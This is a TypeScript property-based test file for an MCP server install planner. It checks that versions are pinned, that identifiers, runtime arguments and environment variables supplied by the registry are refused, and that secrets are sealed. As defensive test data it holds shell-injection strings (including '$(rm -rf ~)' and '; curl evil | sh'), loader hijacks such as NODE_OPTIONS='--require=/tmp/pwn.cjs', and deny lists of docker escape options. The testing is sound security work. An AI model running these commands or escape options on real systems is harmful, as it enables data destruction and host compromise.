import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { isAppError } from '../../shared/errors';
import type { ServerJson } from '../../shared/mcpRegistry';
import { sealServerConfig } from '../../shared/serverSecrets';
import { McpServerConfig } from '../../shared/mcp';
import { REFUSED_ENVIRONMENT, isRefusedVariable } from '../../shared/refusedEnvironment';
import { defaultServerName, dockerArgumentProblem, isExactVersion, planBundleLaunch, planInstall, type PlannedBundle, type PlannedServer } from './installPlan';

const REGISTRY = 'https://registry.example';

function server(partial: Partial<ServerJson>): ServerJson {
  return { name: 'io.github.example/demo', description: 'Demo', version: '1.2.3', ...partial };
}

function npm(identifier: string, version: string | undefined, extra: Record<string, unknown> = {}): ServerJson {
  return server({ packages: [{ registryType: 'npm', identifier, version, transport: { type: 'stdio' }, ...extra }] });
}

function planned(value: ReturnType<typeof planInstall>): PlannedServer {
  if (value.kind !== 'server') throw new Error('expected a server plan');
  return value;
}

function refusal(run: () => unknown): string {
  try {
    run();
  } catch (error) {
    if (isAppError(error) && error.code === 'InvalidInput') return error.message;
    throw error;
  }
  throw new Error('expected an InvalidInput refusal');
}

const exactVersion = fc.tuple(fc.nat(99), fc.nat(99), fc.nat(999)).map(([a, b, c]) => `${a}.${b}.${c}`);
const npmName = fc.tuple(fc.option(fc.stringMatching(/^[a-z0-9][a-z0-9-]{0,10}$/), { nil: undefined }), fc.stringMatching(/^[a-z0-9][a-z0-9._-]{0,20}$/)).map(([scope, name]) => (scope ? `@${scope}/${name}` : name));
/** Values with everything a shell would read: quotes, $(), ;, |, newlines, spaces, leading dashes. */
const hostileValue = fc.oneof(fc.string(), fc.constantFrom('$(rm -rf ~)', '; curl evil | sh', "a' b \"c\"", '--registry=https://evil', '\n-e\n', '`id`', '&& echo pwned'));

describe('planInstall', () => {
  it('runs an npm package as `npx -y name@version` in an argv array, user values as their own items, unchanged', () => {
    fc.assert(
      fc.property(npmName, exactVersion, fc.array(hostileValue, { maxLength: 4 }), (name, version, values) => {
        const packageArguments = values.map((_, i) => ({ type: 'positional' as const, valueHint: `v${i}` }));
        const plan = planned(planInstall(npm(name, version, { packageArguments }), REGISTRY, { args: values }));
        expect(plan.config).toMatchObject({ transport: 'stdio', command: 'npx' });
        const config = McpServerConfig.parse(plan.config);
        if (config.transport !== 'stdio') throw new Error('stdio');
        expect(config.args).toEqual(['-y', `${name}@${version}`, ...values]);
        expect(plan.origin).toMatchObject({ registry: REGISTRY, kind: 'npm', identifier: name, version: '1.2.3' });
      }),
    );
  });

  it('pins each package type: uvx name==version, docker run -i --rm image:tag, dnx name@version', () => {
    const pypi = planned(planInstall(server({ packages: [{ registryType: 'pypi', identifier: 'mcp-server-time', version: '2026.10.19', transport: { type: 'stdio' } }] }), REGISTRY, {}));
    expect(pypi.config).toMatchObject({ command: 'uvx', args: ['mcp-server-time==2026.10.19'] });
    const oci = planned(
      planInstall(server({ packages: [{ registryType: 'oci', identifier: 'ghcr.io/example/server', version: '2.0.1', transport: { type: 'stdio' }, environmentVariables: [{ name: 'API_KEY', isRequired: true, isSecret: true }] }] }), REGISTRY, { env: { API_KEY: 'k-123' } }),
    );
    expect(oci.config).toMatchObject({ command: 'docker', args: ['run', '-i', '--rm', '-e', 'API_KEY', 'ghcr.io/example/server:2.0.1'], env: { API_KEY: 'k-123' } });
    const tagged = planned(planInstall(server({ packages: [{ registryType: 'oci', identifier: 'docker.io/example/server:1.0.0', transport: { type: 'stdio' } }] }), REGISTRY, {}));
    expect(tagged.config).toMatchObject({ args: ['run', '-i', '--rm', 'docker.io/example/server:1.0.0'] });
    const nuget = planned(planInstall(server({ packages: [{ registryType: 'nuget', identifier: 'Example.Server', version: '0.3.0', transport: { type: 'stdio' } }] }), REGISTRY, {}));
    expect(nuget.config).toMatchObject({ command: 'dnx', args: ['Example.Server@0.3.0', '--yes'] });
  });

  it('refuses every version that is not one release, and images without a tag, so nothing runs unpinned', () => {
    const ranges = fc.constantFrom('^1.2.3', '~1.2', '>=1.0.0', '1.x', '1.*', '*', 'latest', 'LATEST', '1.2.x', '', '1.0.0 || 2.0.0', '<2');
    fc.assert(
      fc.property(npmName, ranges, (name, version) => {
        expect(isExactVersion(version)).toBe(false);
        refusal(() => planInstall(npm(name, version), REGISTRY, {}));
      }),
    );
    expect(refusal(() => planInstall(npm('pkg', undefined), REGISTRY, {}))).toContain('names no version');
    expect(refusal(() => planInstall(server({ packages: [{ registryType: 'oci', identifier: 'ghcr.io/example/server', transport: { type: 'stdio' } }] }), REGISTRY, {}))).toContain('cannot be pinned');
    expect(refusal(() => planInstall(server({ packages: [{ registryType: 'oci', identifier: 'ghcr.io/example/server:latest', transport: { type: 'stdio' } }] }), REGISTRY, {}))).toContain('latest');
  });

  it('refuses identifiers a runtime could read as an option or that no registry allows', () => {
    const hostile = fc.oneof(
      fc.constantFrom('-y', '--registry=https://evil', '--package=evil', 'a b', 'pkg;rm', '$(id)', '../x', 'pkg\n--yes'),
      fc.string({ minLength: 1 }).map((s) => `-${s}`),
    );
    fc.assert(
      fc.property(hostile, fc.constantFrom('npm', 'pypi', 'nuget', 'oci'), (identifier, registryType) => {
        refusal(() => planInstall(server({ packages: [{ registryType, identifier, version: '1.0.0', transport: { type: 'stdio' } }] }), REGISTRY, {}));
      }),
    );
  });

  it('names a missing required environment variable, argument, URL variable or header with the flag that gives it', () => {
    expect(refusal(() => planInstall(npm('pkg', '1.0.0', { environmentVariables: [{ name: 'GITHUB_TOKEN', isRequired: true, isSecret: true, description: 'A token' }] }), REGISTRY, {}))).toBe(
      'The environment variable GITHUB_TOKEN is required (A token): give --env GITHUB_TOKEN=VALUE.',
    );
    expect(refusal(() => planInstall(npm('pkg', '1.0.0', { packageArguments: [{ type: 'positional', valueHint: 'directory', isRequired: true }] }), REGISTRY, {}))).toContain('argument directory is required');
    expect(refusal(() => planInstall(npm('pkg', '1.0.0', { packageArguments: [{ type: 'named', name: '--port', isRequired: true }] }), REGISTRY, {}))).toContain('give --arg --port=VALUE');
    const remote = server({ remotes: [{ type: 'streamable-http', url: 'https://mcp.example.com/{tenant}/mcp', variables: { tenant: { isRequired: true } }, headers: [{ name: 'X-Api-Key', isRequired: true, isSecret: true }] }] });
    expect(refusal(() => planInstall(remote, REGISTRY, { headers: { 'X-Api-Key': 'k' } }))).toContain('give --var tenant=VALUE');
    expect(refusal(() => planInstall(remote, REGISTRY, { variables: { tenant: 'acme' } }))).toBe('The header X-Api-Key is required: give --header X-Api-Key=VALUE.');
    expect(refusal(() => planInstall(remote, REGISTRY, { variables: { tenant: 'acme', tennant: 'x' }, headers: { 'X-Api-Key': 'k' } }))).toContain('no variable tennant');
  });

  it('fills a remote URL so no variable value can change its host, and seals its secret header', () => {
    const remote = server({ remotes: [{ type: 'streamable-http', url: 'https://{region}.mcp.example.com/{tenant}/mcp', variables: { region: { default: 'eu' }, tenant: { isRequired: true } }, headers: [{ name: 'X-Api-Key', isRequired: true, isSecret: true }] }] });
    fc.assert(
      fc.property(fc.string({ minLength: 1 }), fc.string({ minLength: 1, maxLength: 20 }), (tenant, key) => {
        let plan: PlannedServer;
        try {
          plan = planned(planInstall(remote, REGISTRY, { variables: { tenant }, headers: { 'X-Api-Key': key } }));
        } catch (error) {
          if (isAppError(error) && error.code === 'InvalidInput') return;
          throw error;
        }
        const config = McpServerConfig.parse(plan.config);
        if (config.transport === 'stdio') throw new Error('http');
        expect(new URL(config.url).host).toBe('eu.mcp.example.com');
        const sealed = sealServerConfig(config);
        if (sealed.config.transport === 'stdio') throw new Error('http');
        expect(sealed.config.headers).toEqual({});
        expect(sealed.config.secretHeaders).toEqual(['X-Api-Key']);
        expect(sealed.values['header:X-Api-Key']).toBe(key);
      }),
    );
    const moved = planned(planInstall(remote, REGISTRY, { variables: { tenant: 'acme', region: 'us' }, headers: { 'X-Api-Key': 'k' }, endpointOrigin: 'http://127.0.0.1:4100/ignored' }));
    expect(moved.config).toMatchObject({ transport: 'http', url: 'http://127.0.0.1:4100/acme/mcp' });
    expect(moved.warnings.join(' ')).toContain('instead of https://us.mcp.example.com');
  });

  it('checks choices, and keeps the environment of a stdio package for sealing', () => {
    const withChoice = npm('pkg', '1.0.0', { environmentVariables: [{ name: 'MODE', choices: ['read', 'write'], isRequired: true }, { name: 'TOKEN', isSecret: true }] });
    expect(refusal(() => planInstall(withChoice, REGISTRY, { env: { MODE: 'admin' } }))).toContain('must be one of read, write');
    const plan = planned(planInstall(withChoice, REGISTRY, { env: { MODE: 'read', TOKEN: 'secret-value' } }));
    const sealed = sealServerConfig(McpServerConfig.parse(plan.config));
    if (sealed.config.transport !== 'stdio') throw new Error('stdio');
    // Only what the user types for an input marked isSecret is sealed; MODE is no secret.
    expect(sealed.config.env).toEqual({ MODE: 'read' });
    expect(sealed.config.secretEnv).toEqual(['TOKEN']);
  });

  it('plans an mcpb bundle only with its fileSha256, then runs its manifest command from the unpacked folder', () => {
    const bundle = (fileSha256?: string) => server({ packages: [{ registryType: 'mcpb', identifier: 'https://example.com/demo.mcpb', fileSha256, transport: { type: 'stdio' } }] });
    expect(refusal(() => planInstall(bundle(), REGISTRY, {}))).toContain('no fileSha256');
    const plan = planInstall(bundle('a'.repeat(64)), REGISTRY, { variables: { api_url: 'https://api.example' } }) as PlannedBundle;
    expect(plan).toMatchObject({ kind: 'mcpb', url: 'https://example.com/demo.mcpb', sha256: 'a'.repeat(64) });
    const launch = planBundleLaunch(plan, { command: 'node', args: ['${__dirname}/server/index.js', '--api', '${user_config.api_url}'] }, '/data/mcpb/demo');
    expect(launch.config).toMatchObject({ command: 'node', args: ['/data/mcpb/demo/server/index.js', '--api', 'https://api.example'], cwd: '/data/mcpb/demo' });
    expect(refusal(() => planBundleLaunch({ ...plan, userConfig: {} }, { command: 'node', args: ['${user_config.api_url}'] }, '/d'))).toContain('--var api_url=VALUE');
  });

  it('makes a saved server name from the registry name', () => {
    expect(defaultServerName('io.github.modelcontextprotocol/everything')).toBe('everything');
    expect(defaultServerName('com.example/My Server.v2')).toBe('My-Server-v2');
    fc.assert(
      fc.property(fc.string(), (name) => {
        expect(defaultServerName(`a.b/${name}`)).toMatch(/^[A-Za-z0-9][A-Za-z0-9_-]*$/);
      }),
    );
  });
});

describe('what a registry supplies', () => {
  const pkg = (registryType: string, identifier: string, extra: Record<string, unknown> = {}) => server({ packages: [{ registryType, identifier, version: '1.0.0', transport: { type: 'stdio' }, ...extra }] });

  it('shows what the registry supplies in plain text and seals only what the user types for a secret input', () => {
    const entry = npm('pkg', '1.0.0', {
      environmentVariables: [
        { name: 'PLAIN_SETTING', default: 'visible-value' },
        { name: 'FIXED', value: 'https://{region}.example', variables: { region: { default: 'eu' } } },
        { name: 'API_KEY', isSecret: true, isRequired: true },
        { name: 'AUTH', value: 'Bearer {token}', variables: { token: { isSecret: true } } },
      ],
    });
    const plan = planned(planInstall(entry, REGISTRY, { env: { API_KEY: 'k-1', OWN: 'mine' }, variables: { token: 't-1' } }));
    const sealed = sealServerConfig(McpServerConfig.parse(plan.config));
    if (sealed.config.transport !== 'stdio') throw new Error('stdio');
    expect(sealed.config.env).toEqual({ PLAIN_SETTING: 'visible-value', FIXED: 'https://eu.example' });
    expect(sealed.config.secretEnv).toEqual(['API_KEY', 'AUTH', 'OWN']);
    expect(sealed.values).toEqual({ 'env:API_KEY': 'k-1', 'env:AUTH': 'Bearer t-1', 'env:OWN': 'mine' });

    const remote = server({ remotes: [{ type: 'streamable-http', url: 'https://mcp.example.com/mcp', headers: [{ name: 'X-Client', default: 'tooldeck' }, { name: 'X-Api-Key', isSecret: true, isRequired: true }] }] });
    const sealedRemote = sealServerConfig(McpServerConfig.parse(planned(planInstall(remote, REGISTRY, { headers: { 'X-Api-Key': 'k' } })).config));
    if (sealedRemote.config.transport === 'stdio') throw new Error('http');
    expect(sealedRemote.config.headers).toEqual({ 'X-Client': 'tooldeck' });
    expect(sealedRemote.config.secretHeaders).toEqual(['X-Api-Key']);
  });

  it('refuses a loader or toolchain variable the registry supplies, naming it, unless the user allows it by name', () => {
    const hostile = npm('pkg', '1.0.0', { environmentVariables: [{ name: 'NODE_OPTIONS', default: '--require=/tmp/pwn.cjs' }] });
    expect(refusal(() => planInstall(hostile, REGISTRY, {}))).toBe(
      'The registry sets NODE_OPTIONS="--require=/tmp/pwn.cjs", a variable that changes which code runs (Node.js loads the modules it names (--require, --import) into every process), so nothing is installed unless you name it with --allow-env NODE_OPTIONS.',
    );
    const allowed = planned(planInstall(hostile, REGISTRY, { allowEnv: ['NODE_OPTIONS'] }));
    expect(allowed.flagged).toEqual(['NODE_OPTIONS']);
    expect(allowed.config).toMatchObject({ env: { NODE_OPTIONS: '--require=/tmp/pwn.cjs' }, plainEnv: ['NODE_OPTIONS'] });
    // A value the user types is theirs to name.
    expect(planned(planInstall(hostile, REGISTRY, { env: { NODE_OPTIONS: '--max-old-space-size=512' } })).flagged).toEqual([]);
    for (const name of ['npm_config_registry', 'NPM_CONFIG_REGISTRY', 'UV_INDEX_URL', 'PIP_INDEX_URL', 'LD_PRELOAD', 'DYLD_INSERT_LIBRARIES', 'PYTHONPATH', 'DOCKER_HOST', 'PATH', 'HOME', 'GIT_SSH_COMMAND', 'JAVA_TOOL_OPTIONS', '_JAVA_OPTIONS', 'DOTNET_STARTUP_HOOKS', 'NODE_PATH']) {
      expect(isRefusedVariable(name), name).toBe(true);
      expect(refusal(() => planInstall(npm('pkg', '1.0.0', { environmentVariables: [{ name, value: 'x' }] }), REGISTRY, {}))).toContain(`--allow-env ${name}.`);
    }
    expect(isRefusedVariable('PLAIN_SETTING')).toBe(false);
    expect(isRefusedVariable('NODE_ENV')).toBe(false);
    // A bundle's manifest is the registry's too.
    const bundle = planInstall(server({ packages: [{ registryType: 'mcpb', identifier: 'https://example.com/b.mcpb', fileSha256: 'a'.repeat(64), transport: { type: 'stdio' } }] }), REGISTRY, {}) as PlannedBundle;
    expect(refusal(() => planBundleLaunch(bundle, { command: 'node', env: { LD_PRELOAD: '/tmp/x.so' } }, '/d'))).toContain("The bundle's manifest sets LD_PRELOAD=");
  });

  it('refuses runtime arguments for npm, PyPI and NuGet packages, and docker run options off the allow-list', () => {
    expect(refusal(() => planInstall(pkg('npm', 'pkg', { runtimeArguments: [{ type: 'positional', value: '--registry=https://evil.example' }] }), REGISTRY, {}))).toBe(
      'The registry gives npx the argument "--registry=https://evil.example" before the pinned npm package pkg, where it could change what runs, so it is not installed (runtime arguments are refused for npm, PyPI and NuGet packages).',
    );
    expect(refusal(() => planInstall(pkg('pypi', 'mcp-server-time', { runtimeArguments: [{ type: 'named', name: '--index-url', value: 'https://evil.example/simple' }] }), REGISTRY, {}))).toContain('gives uvx the argument "--index-url"');
    expect(refusal(() => planInstall(pkg('nuget', 'Example.Server', { runtimeArguments: [{ type: 'positional', value: 'Other.Package' }] }), REGISTRY, {}))).toContain('gives dnx the argument "Other.Package"');
    expect(refusal(() => planInstall(pkg('oci', 'ghcr.io/example/server', { runtimeArguments: [{ type: 'positional', value: '--privileged' }] }), REGISTRY, {}))).toBe(
      'The registry gives docker run --privileged before the image ghcr.io/example/server, and --privileged gives the container a way out to this machine, so it is not installed.',
    );
    const refusedDocker = [['--privileged'], ['-v', '/:/host'], ['--volume=/etc:/etc'], ['--mount', 'type=bind,source=/,target=/host'], ['--network', 'host'], ['--net=host'], ['--pid', 'host'], ['--ipc=host'], ['--cap-add', 'SYS_ADMIN'], ['--device', '/dev/sda'], ['--security-opt', 'seccomp=unconfined'], ['--user', '0'], ['-u', 'root'], ['--user', '1000:0'], ['evil/image'], ['-e', 'DOCKER_HOST=x'], ['--entrypoint', 'sh'], ['-it'], ['--mount', 'type=volume,source=x,target=/h,volume-opt=type=none,volume-opt=o=bind,volume-opt=device=/'], ['-e', 'AWS_SECRET_ACCESS_KEY']];
    for (const argv of refusedDocker) expect(dockerArgumentProblem(argv), argv.join(' ')).toBeDefined();
    for (const argv of [['-e', 'MODE=read'], ['--memory', '512m', '--cpus=1'], ['-v', 'cache:/cache'], ['--mount', 'type=volume,source=data,target=/data'], ['--network', 'bridge'], ['--user', '1000:1000'], ['--read-only', '--tmpfs', '/tmp']]) expect(dockerArgumentProblem(argv), argv.join(' ')).toBeUndefined();
    const allowedOci = planned(planInstall(pkg('oci', 'ghcr.io/example/server', { runtimeArguments: [{ type: 'named', name: '--memory', value: '512m' }], packageArguments: [{ type: 'positional', value: 'serve' }] }), REGISTRY, {}));
    expect(allowedOci.config).toMatchObject({ args: ['run', '-i', '--rm', '--memory', '512m', 'ghcr.io/example/server:1.0.0', 'serve'] });
  });

  it('downloads mcpb bundles over https only', () => {
    expect(refusal(() => planInstall(server({ packages: [{ registryType: 'mcpb', identifier: 'http://example.com/b.mcpb', fileSha256: 'a'.repeat(64), transport: { type: 'stdio' } }] }), REGISTRY, {}))).toContain('which is not https');
  });

  it('keeps the pinned identifier before every registry argument and lets no refused variable reach a plan, whatever the server.json', () => {
    const option = fc.oneof(fc.constantFrom('--registry=https://evil', '-y', '--privileged', '--network', 'host', '-v', '/:/host', '--user', 'root', '--memory', '512m', '--read-only', 'other-pkg', '-e', 'NODE_OPTIONS=x'), fc.string({ maxLength: 12 }));
    const argument = fc.oneof(
      option.map((value) => ({ type: 'positional' as const, value })),
      fc.tuple(fc.constantFrom('--port', '--memory', '--network', '-v', '--flag'), option).map(([name, value]) => ({ type: 'named' as const, name, value })),
    );
    const refusedName = fc.constantFrom(...REFUSED_ENVIRONMENT.map((entry) => (entry.prefix ? `${entry.name}X` : entry.name)), 'npm_config_registry', 'Path');
    const variable = fc.oneof(refusedName, fc.constantFrom('PLAIN_SETTING', 'MODE', 'API_KEY')).chain((name) => fc.record({ name: fc.constant(name), default: fc.string({ minLength: 1, maxLength: 12 }) }));
    const identifiers = { npm: 'pkg', pypi: 'mcp-server-time', nuget: 'Example.Server', oci: 'ghcr.io/example/server' } as const;
    let plans = 0;
    fc.assert(
      fc.property(fc.constantFrom('npm', 'pypi', 'nuget', 'oci'), fc.array(argument, { maxLength: 4 }), fc.array(argument, { maxLength: 4 }), fc.uniqueArray(variable, { maxLength: 4, selector: (v) => v.name }), (registryType, runtimeArguments, packageArguments, environmentVariables) => {
        let plan: PlannedServer;
        try {
          plan = planned(planInstall(pkg(registryType, identifiers[registryType], { runtimeArguments, packageArguments, environmentVariables }), REGISTRY, {}));
        } catch (error) {
          if (isAppError(error) && error.code === 'InvalidInput') return;
          throw error;
        }
        plans++;
        const config = McpServerConfig.parse(plan.config);
        if (config.transport !== 'stdio') throw new Error('stdio');
        expect(Object.keys(config.env).filter(isRefusedVariable)).toEqual([]);
        const pinned = config.args.findIndex((arg) => arg.startsWith(identifiers[registryType]));
        expect(pinned).toBeGreaterThanOrEqual(0);
        const fixedPrefix = { npm: ['-y'], pypi: [], nuget: [], oci: ['run', '-i', '--rm', ...Object.keys(config.env).flatMap((name) => ['-e', name])] }[registryType];
        const beforeIdentifier = config.args.slice(fixedPrefix.length, pinned);
        expect(config.args.slice(0, fixedPrefix.length)).toEqual(fixedPrefix);
        // Before the pinned identifier: nothing for npx, uvx and dnx; only allow-listed docker run options.
        if (registryType === 'oci') expect(dockerArgumentProblem(beforeIdentifier)).toBeUndefined();
        else expect(beforeIdentifier).toEqual([]);
      }),
      { numRuns: 500 },
    );
    // Not vacuous: many generated entries are planned, not refused.
    expect(plans).toBeGreaterThan(10);
  });
});
